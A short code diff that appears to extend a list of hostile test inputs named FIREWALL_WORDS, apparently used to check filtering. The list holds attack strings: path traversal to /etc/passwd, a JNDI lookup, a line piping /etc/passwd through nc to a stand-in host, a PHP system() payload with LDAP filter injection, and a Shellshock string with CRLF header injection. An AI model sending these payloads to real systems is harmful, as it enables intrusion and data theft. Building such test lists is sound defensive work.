@@ -64,6 +64,8 @@ FIREWALL_WORDS: Final = (
     " ../../../../etc/passwd",
     " ${jndi:ldap://animals.example/a}",
     " ; cat /etc/passwd | nc animals.example 80",
+    " <?php system('id'); ?> *)(uid=*))(|(uid=*",
+    " () { :; }; echo shown\r\nSet-Cookie: shown=1\r\n",
 )
 # Names that loosely typed code reads as numbers, booleans, nulls, dates, quoted texts and formulas.
 LOOKALIKE_NAMES: Final = (
